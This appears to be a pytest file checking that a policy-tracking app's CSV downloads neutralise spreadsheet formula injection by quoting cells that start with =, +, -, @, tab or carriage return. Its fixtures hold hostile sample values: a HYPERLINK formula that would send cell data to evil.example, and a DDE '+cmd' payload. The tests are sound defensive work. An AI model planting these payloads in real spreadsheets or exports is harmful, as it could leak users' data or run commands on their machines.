"""No CSV cell can start a formula: titles, publishers and agency names that begin with
= + - @ (or a tab or carriage return) come out behind a single quote, as OWASP advises, in
every CSV download; dates, slugs and addresses come out unchanged."""

import csv
import io

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from policytrack.ingest.timeline import import_timeline_data
from policytrack.web import exports
from policytrack.web.exports import spreadsheet_safe

TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
PUBLISHER = "@SUM(1)"
AGENCY = "+cmd|' /C calc'!A0"
SHORT_TITLE = "-2+3"

TIMELINE = {
    "format": "policytrack-timeline/1",
    "agencies": [{"slug": "evil", "name": "Evil agency", "short_name": AGENCY}],
    "documents": [
        {
            "key": "fr",
            "kind": "federal_register",
            "title": "\tA rule",
            "publisher": PUBLISHER,
            "published_on": "2025-01-15",
            "fr_document_number": "2025-00001",
        }
    ],
    "instruments": [
        {
            "slug": "evil-rule",
            "title": TITLE,
            "short_title": SHORT_TITLE,
            "kind": "rule",
            "agencies": ["evil"],
            "events": [
                {
                    "key": "published",
                    "kind": "published",
                    "date": "2025-01-15",
                    "claims": [{"document": "fr", "date": "2025-01-15"}],
                },
                {
                    "key": "effective",
                    "kind": "effective",
                    "date": "2025-02-14",
                    "claims": [{"document": "fr", "date": "2025-02-14"}],
                },
            ],
        }
    ],
}


@pytest.fixture
def evil(db):
    import_timeline_data(TIMELINE, "evil.json")


def rows_of(response):
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize(
    "address",
    [
        "/instruments/?format=csv&on=2025-03-01",
        "/on/2025-03-01/?format=csv",
        "/changes/?from=2025-01-01&to=2025-03-01&format=csv",
    ],
)
def test_no_cell_of_any_csv_can_start_a_formula(evil, client, address):
    rows = rows_of(client.get(address))
    assert len(rows) > 1
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert f"'{TITLE}" in cells
    if "changes" in address:
        assert any(cell.startswith(f"'{PUBLISHER}") for cell in cells)  # the sources column
    else:
        assert f"'{AGENCY}" in cells and f"'{SHORT_TITLE}" in cells


def test_ordinary_values_come_out_unchanged(evil, client):
    header, *rows = rows_of(client.get("/changes/?from=2025-01-01&to=2025-03-01&format=csv"))
    effective = dict(zip(header, next(row for row in rows if row[header.index("event")] == "effective")))
    assert effective["date"] == "2025-02-14"
    assert effective["instrument"] == "evil-rule"
    assert effective["url"] == "http://testserver/instruments/evil-rule/?on=2025-02-14#event-effective"


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("2025-02-14", "2025-02-14"),
        ("A = B", "A = B"),
        ("", ""),
        ("https://example.org/", "https://example.org/"),
    ],
)
def test_a_cell_is_quoted_only_when_it_would_start_a_formula(value, written):
    assert spreadsheet_safe(value) == written


CELL_TEXT = st.text(alphabet=st.sampled_from(list("ab ,\"=+-@\t\r\n;'1")), max_size=4)


@settings(max_examples=500)
@given(st.lists(CELL_TEXT, min_size=1, max_size=4) | st.lists(st.one_of(CELL_TEXT, st.none(), st.integers())))
@example(["a", "-1"])
@example(["a", "@b", "c"])
@example(["=a", "b"])
@example(["a", "\tb"])
@example([""])
def test_a_line_is_what_the_csv_writer_writes_of_the_safe_cells(row):
    # The exports join plain rows themselves (``_plain_line``): the same bytes, whatever the cells.
    buffer = io.StringIO()
    csv.writer(buffer).writerow([spreadsheet_safe(cell) for cell in row])
    assert "".join(exports._lines([row])) == buffer.getvalue()
